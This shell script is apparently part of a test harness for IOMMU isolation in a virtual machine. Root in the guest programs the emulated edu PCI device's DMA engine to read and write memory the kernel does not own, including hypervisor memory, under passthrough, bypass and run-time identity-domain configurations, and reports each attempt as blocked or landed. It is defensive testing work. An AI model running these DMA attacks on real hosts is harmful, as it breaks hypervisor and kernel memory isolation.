# Sourced by init for the attack modes: root in the guest programs the edu device's DMA engine from user space to
# access memory that the kernel does not own.
#
# portcullis.target= is the target address. portcullis.target_kind= is its kind:
#   scratch  a page excluded from the kernel by mem=, which the CPU may read;
#   el2      the hypervisor's memory, checked on EL2's console only.

read_at=$(option target)
# A separate page, so that the events of the two attacks have different addresses.
write_at=$((read_at + 0x1000))
kind=$(option target_kind)
# The device's own buffer, which only the DMA engine can access.
buffer=0x40000
TO_DEVICE=1
FROM_DEVICE=3

# hex: eight bytes from standard input as one word of hexadecimal digits.
hex() { hexdump -v -n 8 -e '8/1 "%02x"'; }

find_edu() {
    for device in /sys/bus/pci/devices/*; do
        if [ "$(cat "$device/vendor"):$(cat "$device/device")" = 0x1234:0x11e8 ]; then
            edu=$device
            slot=$(basename "$device")
            bar=$(head -n 1 "$device/resource" | cut -d' ' -f1)
            return
        fi
    done
    bad edu "no edu device"
    leave
}

# Command register: memory space and bus mastering.
enable_edu() { printf '\006\000' | dd of="$edu/config" bs=1 seek=4 conv=notrunc 2>/dev/null; }

# Without a driver Linux configures no stream table entry for the device; the attack then needs a kernel that lets
# unknown streams bypass.
bind_edu() {
    echo uio_pci_generic >"$edu/driver_override"
    echo "$slot" >/sys/bus/pci/drivers_probe
    [ -e "$edu/driver" ] || bad edu "uio_pci_generic did not bind"
    enable_edu
}

# set_domain TYPE: sets the domain type, which is only possible while no driver is bound.
set_domain() {
    [ -e "$edu/driver" ] && echo "$slot" >"$edu/driver/unbind"
    echo "$1" >"$edu/iommu_group/type" || bad domain "$1 refused"
    [ "$(cat "$edu/iommu_group/type")" = "$1" ] || bad domain "$(cat "$edu/iommu_group/type")"
    bind_edu
}

# dma SOURCE DESTINATION DIRECTION: eight bytes. There is one event for each four bytes.
dma() {
    devmem $((bar + 0x80)) 64 "$1"
    devmem $((bar + 0x88)) 64 "$2"
    devmem $((bar + 0x90)) 64 8
    devmem $((bar + 0x98)) 64 "$3"
    wait_for 10 sh -c "[ \$((\$(devmem $((bar + 0x98)) 64) & 1)) -eq 0 ]" ||
        bad edu "a transfer does not end"
}

# A page that the attacker owns: the top of the stack of a sleeping process, at a known bus address.
take_own_page() {
    sleep 100000 &
    sleeper=$!
    wait_for 5 grep -q stack /proc/$sleeper/maps
    top=$(grep stack /proc/$sleeper/maps | cut -d' ' -f1 | cut -d- -f2)
    own_va=$((0x$top - 4096))
    set -- $(dd if=/proc/$sleeper/pagemap bs=8 skip=$((own_va / 4096)) count=1 2>/dev/null |
        hexdump -v -e '8/1 "%02x "')
    own_page=$(((0x$7$6$5$4$3$2$1 & 0x7fffffffffffff) * 4096))
    [ $own_page -ne 0 ] || bad own_page "not in memory"
}

poke_own() {
    printf '%s' "$1" |
        dd of=/proc/$sleeper/mem bs=8 seek=$((own_va / 8)) conv=notrunc 2>/dev/null
}
peek_own() { dd if=/proc/$sleeper/mem bs=8 skip=$((own_va / 8)) count=1 2>/dev/null | hex; }

fill_device() {
    poke_own "$1"
    dma $own_page $buffer $TO_DEVICE
}
empty_device() {
    poke_own "nothing!"
    dma $buffer $own_page $FROM_DEVICE
    peek_own
}

# control NAME: checks that the device works; otherwise a blocked attack proves nothing.
control() {
    fill_device "control!"
    got=$(empty_device)
    if [ "$got" = "$(printf 'control!' | hex)" ]; then
        echo "CONTROL $1: ok"
    else
        echo "CONTROL $1: FAIL own page holds $got"
    fi
}

prepare_target() {
    [ "$kind" = scratch ] || return
    devmem $((read_at)) 64 0x1122334455667788
    devmem $((write_at)) 64 0x1122334455667788
}

# check_read NAME: a blocked transaction reads zeros.
check_read() {
    got=$(empty_device)
    case $got in
    "$(printf 'canary!!' | hex)" | 0000000000000000) echo "ATTACK $1: blocked" ;;
    *) echo "ATTACK $1: landed (read $got at $(printf '%#x' $((read_at))))" ;;
    esac
}

# check_write NAME: EL2's memory cannot be read; EL2 reports the blocked access.
check_write() {
    if [ "$kind" = scratch ]; then
        got=$(devmem $((write_at)) 64)
        case $got in
        0x1122334455667788) echo "ATTACK $1: blocked" ;;
        *) echo "ATTACK $1: landed (wrote $got at $(printf '%#x' $write_at))" ;;
        esac
        return
    fi
    fill_device "canary!!"
    dma $write_at $buffer $TO_DEVICE
    got=$(empty_device)
    if [ "$got" = "$(printf 'attack!!' | hex)" ]; then
        echo "ATTACK $1: landed (wrote and read back $got)"
    else
        echo "ATTACK $1: blocked"
    fi
}

read_attack() {
    prepare_target
    fill_device "canary!!"
    dma $((read_at)) $buffer $TO_DEVICE
    check_read "$1"
}

write_attack() {
    prepare_target
    fill_device "attack!!"
    dma $buffer $write_at $FROM_DEVICE
    check_write "$1"
}

# The target must be memory outside the kernel's RAM.
check_target() {
    inside=no
    for range in $(grep 'System RAM' /proc/iomem | grep -v '^ ' | sed 's/ :.*//'); do
        first=$((0x${range%-*})) last=$((0x${range#*-}))
        if [ $write_at -ge $first ] && [ $((read_at)) -le $last ]; then inside=$range; fi
    done
    check target "$(printf '%#x' $((read_at))) is outside System RAM" test "$inside" = no
}

prepare() {
    find_edu
    take_own_page
    check_target
}

# The attack on a boot with iommu.passthrough=1.
attack_passthrough() {
    prepare
    bind_edu
    value edu_domain "$(cat "$edu/iommu_group/type")"
    control passthrough
    read_attack passthrough_read
    write_attack passthrough_write
    control passthrough_after
}

# The attack on a boot with arm-smmu-v3.disable_bypass=0, with a device that was never bound to a driver.
attack_unbound() {
    prepare
    enable_edu
    value edu_domain "$(cat "$edu/iommu_group/type" 2>/dev/null || echo none)"
    control unbound
    read_attack unbound_read
    write_attack unbound_write
    control unbound_after
}

# The attack on a boot without options: root disables translation at run time, and enables it again.
attack_runtime() {
    prepare
    bind_edu
    value edu_domain "$(cat "$edu/iommu_group/type")"
    poke_own "untouch!"
    dma $buffer $own_page $FROM_DEVICE
    if [ "$(peek_own)" = "$(printf 'untouch!' | hex)" ]; then
        echo "ATTACK translated_own_page: blocked"
    else
        echo "ATTACK translated_own_page: landed"
    fi

    set_domain identity
    control identity
    read_attack identity_read
    write_attack identity_write

    # The device's buffer is filled and read with the domain in identity mode, the attack runs with translation on.
    fill_device "canary!!"
    set_domain DMA
    dma $((read_at)) $buffer $TO_DEVICE
    set_domain identity
    check_read translated_read

    prepare_target
    fill_device "attack!!"
    set_domain DMA
    dma $buffer $write_at $FROM_DEVICE
    set_domain identity
    check_write translated_write
    control identity_after
}
